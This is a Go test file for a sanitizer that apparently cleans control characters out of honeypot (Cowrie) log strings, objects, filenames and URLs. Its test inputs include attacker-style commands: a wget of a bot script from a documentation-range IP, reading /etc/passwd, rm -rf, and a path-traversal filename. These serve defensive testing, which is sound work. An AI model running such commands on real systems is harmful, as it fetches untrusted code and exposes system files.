package sanitize

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestString(t *testing.T) {
	tt := []struct {
		Name string
		In   string
		Want string
	}{
		{Name: "Clean", In: "wget http://198.51.100.7/bot.sh", Want: "wget http://198.51.100.7/bot.sh"},
		{Name: "Empty", In: "", Want: ""},
		{Name: "NUL", In: "cat /etc/passwd\x00", Want: "cat /etc/passwd"},
		{Name: "Escape", In: "\x1b[2J\x1b[Hclear", Want: "[2J[Hclear"},
		{Name: "KeepsWhitespace", In: "a\tb\nc\r\n", Want: "a\tb\nc\r\n"},
		{Name: "C1Range", In: "a\u0085b\u009fc", Want: "abc"},
		{Name: "DEL", In: "rm\x7f-rf", Want: "rm-rf"},
		{Name: "UnicodeKept", In: "héllo жизнь", Want: "héllo жизнь"},
		{Name: "EscapeText", In: "ls -la\\u0000", Want: "ls -la"},
		{Name: "EscapeTextUpper", In: "id\\u001B[2J", Want: "id[2J"},
		{Name: "AllowedEscapeTextKept", In: "a\\u0009b", Want: "a\\u0009b"},
	}
	for _, tc := range tt {
		t.Run(tc.Name, func(t *testing.T) {
			got := String(tc.In)
			if got != tc.Want {
				t.Errorf("got: %q, want: %q", got, tc.Want)
			}
			// Sanitizing twice must be a no-op.
			if again := String(got); again != got {
				t.Errorf("not idempotent: %q became %q", got, again)
			}
		})
	}
}

func TestDetect(t *testing.T) {
	tt := []struct {
		Name  string
		In    string
		Match bool
	}{
		{Name: "Clean", In: `{"eventid":"cowrie.session.connect"}`, Match: false},
		{Name: "RawNUL", In: "abc\x00def", Match: true},
		{Name: "RawUnitSep", In: "abc\x1fdef", Match: true},
		{Name: "Tab", In: "a\tb", Match: false},
		{Name: "EscapedNUL", In: "{\"input\":\"\\u0000\"}", Match: true},
		{Name: "EscapedDEL", In: "{\"input\":\"\\u007f\"}", Match: true},
		{Name: "EscapedTab", In: "{\"input\":\"\\u0009\"}", Match: false},
		{Name: "EscapedNewline", In: "{\"input\":\"\\u000a\"}", Match: false},
		{Name: "EscapedCR", In: "{\"input\":\"\\u000d\"}", Match: false},
		{Name: "EscapedShiftOut", In: "{\"input\":\"\\u000e\"}", Match: true},
	}
	for _, tc := range tt {
		t.Run(tc.Name, func(t *testing.T) {
			if got := Detect.MatchString(tc.In); got != tc.Match {
				t.Errorf("Detect(%q): got %v, want %v", tc.In, got, tc.Match)
			}
		})
	}
}

func TestDetectEscapes(t *testing.T) {
	if DetectEscapes(`plain text`) {
		t.Error("matched clean text")
	}
	if !DetectEscapes("{\"a\":\"\\u0000\"}") {
		t.Error("missed escaped NUL")
	}
	if DetectEscapes("{\"a\":\"\\u0009\"}") {
		t.Error("matched allowed tab escape")
	}
}

func TestObject(t *testing.T) {
	in := map[string]any{
		"eventid": "cowrie.command.input",
		"input":   "echo\x00 pwned",
		"nested": map[string]any{
			"k\x01ey": "v\x02alue",
			"n":       float64(3),
		},
		"list": []any{"a\x00", float64(1), true, nil},
	}
	want := map[string]any{
		"eventid": "cowrie.command.input",
		"input":   "echo pwned",
		"nested": map[string]any{
			"key": "value",
			"n":   float64(3),
		},
		"list": []any{"a", float64(1), true, nil},
	}
	got := Object(in)
	if !cmp.Equal(got, want) {
		t.Error(cmp.Diff(want, got))
	}
	// A second pass changes nothing.
	if again := Object(got); !cmp.Equal(again, want) {
		t.Error(cmp.Diff(want, again))
	}
}

func TestFilename(t *testing.T) {
	tt := []struct {
		In   string
		Want string
	}{
		{"bot.sh", "bot.sh"},
		{"../../etc/passwd", "etc/passwd"},
		{"a/..b../c", "a/b/c"},
		{"na\x00me", "name"},
	}
	for _, tc := range tt {
		if got := Filename(tc.In); got != tc.Want {
			t.Errorf("Filename(%q): got %q, want %q", tc.In, got, tc.Want)
		}
	}
}

func TestURL(t *testing.T) {
	tt := []struct {
		In   string
		Want string
	}{
		{"http://example.com/x", "http://example.com/x"},
		{"http://example.com/a b", "http://example.com/ab"},
		{"http://example.com/\x00x\n", "http://example.com/x"},
	}
	for _, tc := range tt {
		if got := URL(tc.In); got != tc.Want {
			t.Errorf("URL(%q): got %q, want %q", tc.In, got, tc.Want)
		}
	}
}
